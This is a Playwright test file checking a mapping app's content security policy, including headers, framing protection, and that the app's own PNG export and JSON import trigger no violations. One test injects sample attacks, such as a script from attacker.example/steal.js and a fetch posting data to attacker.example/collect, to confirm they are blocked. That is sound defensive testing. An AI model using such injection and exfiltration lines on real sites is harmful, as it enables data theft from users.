// The content security policy (vite.config.ts): sent by `vite preview` as a header and written
// into the built index.html. Script injected into the page does not run (inline, in an attribute,
// a javascript: link, from another origin), and the browser reports each attempt; what the app
// itself does (open maps, export a PNG with embedded fonts, import a file) reports nothing.
import { expect, test, type Download, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PNG } from 'pngjs';
import { createFromTemplate, openLibrary } from './helpers';

type Watched = { __violations: string[]; __pwned?: number };

/** Records every CSP violation the page reports, from before the app starts. */
async function watchViolations(page: Page) {
  const messages: string[] = [];
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) messages.push(message.text());
  });
  await page.addInitScript(() => {
    const w = window as unknown as Watched;
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      // Both policies report: the header's (with frame-ancestors) and the <meta>'s.
      const policy = event.originalPolicy.includes('frame-ancestors') ? 'header' : 'meta';
      w.__violations.push(`${policy}: ${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  return {
    violations: () => page.evaluate(() => (window as unknown as Watched).__violations),
    console: () => messages,
  };
}

test('the policy is sent as a header, and written into index.html without frame-ancestors', async ({ page }) => {
  const response = await page.goto('/');
  const header = (await response?.headerValue('content-security-policy')) ?? '';
  for (const directive of ["script-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "base-uri 'self'", "form-action 'self'", "connect-src 'self' ws: wss:"]) {
    expect(header).toContain(directive);
  }
  expect(header).not.toContain('unsafe-eval');
  expect(header).not.toMatch(/script-src[^;]*unsafe-inline/);
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  // The same policy, less what a <meta> cannot carry.
  expect(meta).toBe(header.split('; ').filter((d) => !d.startsWith('frame-ancestors')).join('; '));
});

test('injected script does not run, and each attempt is reported as a violation', async ({ page }) => {
  const watched = await watchViolations(page);
  await openLibrary(page);
  await page.evaluate(async () => {
    const w = window as unknown as Watched;
    const inline = document.createElement('script');
    inline.textContent = 'window.__pwned = 1';
    document.body.append(inline);

    const foreign = document.createElement('script');
    foreign.src = 'https://attacker.example/steal.js';
    document.body.append(foreign);

    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.__pwned = 2');
    image.src = '/no-such-image.png';
    document.body.append(image);

    const link = document.createElement('a');
    link.href = 'javascript:window.__pwned = 3';
    document.body.append(link);
    link.click();

    const plugin = document.createElement('object');
    plugin.data = '/favicon.svg';
    document.body.append(plugin);

    // Data may only go to the app's own origin over HTTP (WebSockets may reach a collaboration server).
    await fetch('https://attacker.example/collect', { method: 'POST', body: 'maps' }).catch(() => undefined);

    // Violations are reported in a task of their own.
    await new Promise((resolve) => setTimeout(resolve, 500));
    return w.__pwned;
  });
  const blocked = [
    'script-src-elem inline', // the inline script, and the javascript: URL
    'script-src-elem https://attacker.example/steal.js',
    'script-src-attr inline',
    `object-src ${new URL('/favicon.svg', page.url()).href}`,
    'connect-src https://attacker.example/collect',
  ];
  // Each policy blocks each attempt on its own (the <meta> is all a plain static server sends).
  await expect.poll(watched.violations).toEqual(expect.arrayContaining(['header', 'meta'].flatMap((policy) => blocked.map((what) => `${policy}: ${what}`))));
  for (const policy of ['header', 'meta']) {
    expect((await watched.violations()).filter((v) => v === `${policy}: script-src-elem inline`)).toHaveLength(2);
  }
  expect(await page.evaluate(() => (window as unknown as Watched).__pwned)).toBeUndefined();
  // The app still works.
  await expect(page.getByRole('button', { name: 'New map' })).toBeEnabled();
});

test('the app cannot be framed by another site', async ({ page, baseURL }) => {
  // localhost and 127.0.0.1 are different origins: a page of one frames the app at the other.
  const app = (baseURL as string).replace('127.0.0.1', 'localhost');
  await page.setContent(`<iframe src="${app}/" width="800" height="600"></iframe>`);
  const frame = page.frameLocator('iframe');
  // The frame loads (an error page) but never shows the app.
  await page.waitForTimeout(1500);
  await expect(frame.getByRole('heading', { name: 'Waymark' })).toHaveCount(0);
});

async function bytesOf(download: Download): Promise<Buffer> {
  return readFileSync(await download.path());
}

test('the app itself breaks no rule: maps, PNG export with embedded fonts, JSON import', async ({ page }) => {
  const watched = await watchViolations(page);
  // The Thai example: its PNG embeds font slices as data: URLs and draws through data: SVG images.
  await createFromTemplate(page, 'การไปพบแพทย์ที่คลินิก');
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const download = page.waitForEvent('download', { timeout: 60_000 });
  await page.getByRole('button', { name: 'Image for slides (PNG)' }).click();
  const bytes = await bytesOf(await download);
  expect(bytes.subarray(0, 8)).toEqual(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
  expect(bytes.length).toBeGreaterThan(50_000);
  const image = PNG.sync.read(bytes);
  expect(image.width).toBeGreaterThan(1000);
  expect(image.height).toBeGreaterThan(500);

  await page.getByRole('link', { name: 'All maps' }).click();
  await page.getByTestId('import-input').setInputFiles(join(import.meta.dirname, '../fixtures/online-order.waymark.json'));
  const dialog = page.getByRole('dialog');
  await expect(dialog.getByRole('heading', { name: 'Imported 1 map' })).toBeVisible();
  await dialog.getByRole('button', { name: 'Open Online order to delivery' }).click();
  await expect(page.locator('.react-flow__node-touchpoint')).toHaveCount(8);

  expect(await watched.violations()).toEqual([]);
  expect(watched.console()).toEqual([]);
});
